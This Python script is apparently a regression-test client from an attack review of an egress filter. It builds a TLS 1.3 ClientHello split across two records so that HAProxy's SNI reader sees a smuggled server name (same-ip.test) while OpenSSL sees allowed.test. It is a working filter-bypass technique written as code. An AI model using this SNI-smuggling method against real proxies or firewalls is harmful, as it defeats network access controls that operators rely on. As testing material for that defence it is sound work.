"""A TLS 1.3 client (one hello, X25519, TLS_AES_128_GCM_SHA256) whose ClientHello names
allowed.test in its server_name extension, cut into two TLS records inside an extension of its
own: read record by record (RFC 8446 5.1, as OpenSSL and egressd read it) it names allowed.test
only; read as one run of bytes from the first record on (HAProxy's req.ssl_sni, which ignores
record boundaries) the second record's 5-byte header shifts the extensions, and a server_name
naming same-ip.test comes first. (Found by an attack review.)

Usage: tls_split_client.py ADDR PORT MODE [EXT]   MODE: split | plain (one record, no decoy)
EXT: the type of the extension the cut lies in, hex (0xfafa GREASE, 0x0015 padding).
Completes the handshake, sends b"sni?" and prints one JSON line: {"step": "done", "answer": ...}
or {"error": ...}."""
import json
import os
import socket
import struct
import sys

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from tls13_hrr_client import Conn, complete, ext, rec, u8, u16, u24  # noqa: E402

FILLER = 40  # bytes of the decoy extension before the record boundary


def hello(sni: str, pub: bytes, decoy: str | None, ext_type: int) -> bytes:
    exts = b""
    if decoy is not None:
        # X (ext_type): FILLER bytes, then 00 00 | 00 LL | 00, which a reader 5 bytes behind takes
        # for a server_name extension's header; Y (type 0x0f00: the list length's low byte, then
        # host_name): the name.
        name = decoy.encode()
        tail = b"\x00\x00" + struct.pack("!H", 2 + 1 + 2 + len(name)) + b"\x00"
        exts += ext(ext_type, (b"\xaa" if ext_type == 0xfafa else b"\x00") * FILLER + tail)
        exts += struct.pack("!BB", 1 + 2 + len(name), 0) + u16(name)
    exts += ext(0, u16(b"\x00" + u16(sni.encode())))
    exts += ext(43, u8(b"\x03\x04"))
    exts += ext(10, u16(b"\x00\x1d"))
    exts += ext(13, u16(b"\x08\x04\x04\x03\x04\x01\x08\x05\x08\x06"))
    exts += ext(51, u16(b"\x00\x1d" + u16(pub)))
    body = b"\x03\x03" + os.urandom(32) + u8(os.urandom(32)) + u16(b"\x13\x01") + b"\x01\x00" + u16(exts)
    return b"\x01" + u24(body)


def main(addr: str, port: int, mode: str, ext_type: int) -> dict:
    priv = X25519PrivateKey.generate()
    pub = priv.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    if mode == "plain":
        ch = hello("allowed.test", pub, None, ext_type)
        wire = rec(22, ch)
    else:
        ch = hello("allowed.test", pub, "same-ip.test", ext_type)
        # header 4, version 2, random 32, session id 33, suites 4, compression 2, extensions
        # length 2, X's header 4, FILLER: the cut, 5 bytes before X ends
        cut = 4 + 2 + 32 + 33 + 4 + 2 + 2 + 4 + FILLER
        wire = rec(22, ch[:cut]) + b"\x16\x03\x01" + struct.pack("!H", len(ch) - cut) + ch[cut:]
    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect((addr, port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c = Conn(s)
    s.sendall(wire)
    t, sh, _ = c.handshake()
    if t != 22 or sh[0] != 2:
        return {"step": "server_hello", "type": t}
    return complete(s, c, priv, ch + sh, sh)


if __name__ == "__main__":
    try:
        print(json.dumps(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4] if len(sys.argv) > 4 else "0xfafa", 16))))
    except Exception as e:  # noqa: BLE001 (the test reads the outcome)
        print(json.dumps({"error": repr(e)}))
